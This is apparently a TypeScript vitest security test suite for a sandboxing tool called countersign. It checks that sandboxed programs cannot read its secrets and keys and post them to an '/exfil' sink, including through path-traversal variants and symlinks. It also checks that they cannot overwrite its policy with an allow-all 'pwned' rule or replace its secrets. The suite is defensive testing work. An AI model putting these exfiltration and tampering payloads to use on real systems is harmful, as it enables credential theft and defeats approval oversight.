// countersign's own secrets: the user widens the fs connection to the whole home folder, which
// holds the data directory (approver secret, submitter token, signing keys, the provider token),
// or links the data directory into the sandbox. A program that may read any file without asking
// never gets those contents to its output or to a sink; a root holding them is refused at load,
// and the fs host refuses them whatever the roots say.
import { existsSync, readdirSync, readFileSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { program, readWriteAndPost, SLOW, type World, useWorld } from "./world.js";

const policy = (sinkOrigin: string) => readWriteAndPost(sinkOrigin, "~");

/** Every secret string of the data directory: the approver secret, the tokens, the private key parts. */
function secretsOf(w: World): string[] {
  const secrets = [
    readFileSync(join(w.data, "approver.secret"), "utf8").trim(),
    readFileSync(join(w.data, "submitter.token"), "utf8").trim(),
    w.gmailToken,
  ];
  const walk = (value: unknown, key = ""): void => {
    if (typeof value === "string" && key === "d") secrets.push(value);
    else if (value !== null && typeof value === "object") for (const [k, v] of Object.entries(value)) walk(v, k);
  };
  walk(JSON.parse(readFileSync(join(w.data, "keys", "keyring.json"), "utf8")));
  return secrets.filter((s) => s.length >= 16);
}

/** Read each file, print it, return it and post it to the sink; every run's output and every sink body. */
async function exfiltrate(w: World, paths: string[]): Promise<{ out: string; seen: string }> {
  const sink = w.sinks[0]!;
  let out = "";
  for (const path of paths) {
    const body = `    const r = await readFile({ path: ${JSON.stringify(path)} });
    console.log(String(r.content));
    await post({ url: "${sink.origin}/exfil", body: String(r.content) });`;
    const r = await w.run(
      program(body, { imports: `import { readFile } from "trusted/fs";\nimport { post } from "trusted/http";` }),
    );
    out += `--- ${path}: exit ${r.code}\n${r.stdout}${r.stderr}`;
  }
  // Every program passed the analysis: the attempts are real, not type errors.
  if (/^\d+:\d+: error/m.test(out)) throw new Error(`a program was refused by the analysis:\n${out}`);
  return { out, seen: out + sink.received.map((a) => a.body + JSON.stringify(a.headers)).join("\n") };
}

function leaked(w: World, seen: string): string[] {
  return secretsOf(w)
    .filter((s) => seen.includes(s))
    .map((s) => `${s.slice(0, 6)}…`);
}

describe("fs roots = [HOME], the data directory inside it", () => {
  const w = useWorld({
    connections: (world) =>
      `[email]\naddress = "me@example.com"\nbase_url = "${world.gmail.url}"\ntoken_file = "${join(world.data, "gmail-token")}"\n\n[fs]\nroots = ["${world.home}"]\n\n[http]\nhosts = ["${world.sinks[0]!.host}"]\n`,
    policies: (world) => ({ "attacks.toml": policy(world.sinks[0]!.origin) }),
  });

  it(
    "the approver secret, the submitter token, the provider token and the signing key never reach stdout, stderr or the sink",
    async () => {
      const d = w.data;
      const { out, seen } = await exfiltrate(w, [
        join(d, "approver.secret"),
        join(d, "submitter.token"),
        join(d, "gmail-token"),
        join(d, "keys", "keyring.json"),
        `${w.home}/Sandbox/../.countersign/approver.secret`,
        `${d}/./submitter.token`,
        `${w.home}//.countersign//keys/keyring.json`,
      ]);
      expect(leaked(w, seen), out).toEqual([]);
      // Such a root is refused before anything runs, and the run says why and how to fix it.
      const plain = await exfiltrate(w, [join(w.sandbox, "notes.txt")]);
      expect(plain.out).toMatch(/exit 2\n/);
      expect(plain.out).toContain(`root ${w.home} contains the data directory`);
      expect(plain.out).toContain("COUNTERSIGN_HOME");
      expect(w.sinks[0]!.received).toEqual([]);
    },
    SLOW,
  );
});

describe("fs roots = [HOME] and writes allowed anywhere under ~", () => {
  const w = useWorld({
    connections: (world) =>
      `[email]\naddress = "me@example.com"\nbase_url = "${world.mail.origin}"\ntoken_file = "${join(world.data, "gmail-token")}"\n\n[fs]\nroots = ["${world.home}"]\n\n[http]\nhosts = ["${world.sinks[0]!.host}"]\n`,
    policies: (world) => ({ "attacks.toml": policy(world.sinks[0]!.origin) }),
  });

  it(
    "the data directory's files (policy, connections, secrets) are never written by a program",
    async () => {
      // What decides and what authenticates: the policy folder, the connections, the secrets and keys
      // (not the database or the caches countersign itself writes while it runs).
      const snapshot = () => {
        const files: Record<string, string> = {};
        for (const name of ["connections.toml", "approver.secret", "submitter.token", "gmail-token"])
          files[name] = readFileSync(join(w.data, name), "utf8");
        for (const dir of ["policies", "keys"])
          for (const name of readdirSync(join(w.data, dir)))
            files[`${dir}/${name}`] = readFileSync(join(w.data, dir, name), "utf8");
        return files;
      };
      const before = snapshot();
      const allowAll = 'default = "ask"\n\n[[rules]]\nid = "pwned"\ndecision = "allow"\nop = "*"\n';
      let out = "";
      for (const [path, content] of [
        [join(w.data, "policies", "zz-allow.toml"), allowAll],
        [join(w.data, "connections.toml"), `[fs]\nroots = ["/"]\n`],
        [join(w.data, "approver.secret"), "attacker-known-secret-0000000000000000"],
        [join(w.data, "submitter.token"), "attacker-token"],
      ] as const) {
        const r = await w.run(
          program(`    await writeFile({ path: ${JSON.stringify(path)}, content: ${JSON.stringify(content)} });`, {
            imports: `import { writeFile } from "trusted/fs";`,
          }),
        );
        out += `--- ${path}: exit ${r.code}\n${r.stdout}${r.stderr}`;
      }
      expect(snapshot(), out).toEqual(before);
      // Such a root is refused before anything runs: no write elsewhere in HOME either, and the run says why.
      const plain = await w.run(
        program(`    await writeFile({ path: ${JSON.stringify(join(w.home, "ok.txt"))}, content: "fine" });`, {
          imports: `import { writeFile } from "trusted/fs";`,
        }),
      );
      expect(plain.code, plain.stderr).toBe(2);
      expect(plain.stderr).toContain(`root ${w.home} contains the data directory`);
      expect(existsSync(join(w.home, "ok.txt"))).toBe(false);
    },
    SLOW,
  );
});

describe("fs roots = [~/Sandbox], the data directory linked into it", () => {
  const w = useWorld({ policies: (world) => ({ "attacks.toml": policy(world.sinks[0]!.origin) }) });

  beforeAll(() => {
    symlinkSync(w.data, join(w.sandbox, "cs"));
    symlinkSync(join(w.data, "approver.secret"), join(w.sandbox, "secret-link"));
  });

  it(
    "reading through the links leaks nothing",
    async () => {
      const { out, seen } = await exfiltrate(w, [
        join(w.sandbox, "cs", "approver.secret"),
        join(w.sandbox, "cs", "submitter.token"),
        join(w.sandbox, "secret-link"),
        join(w.sandbox, "cs", "gmail-token"),
      ]);
      expect(leaked(w, seen), out).toEqual([]);
    },
    SLOW,
  );
});
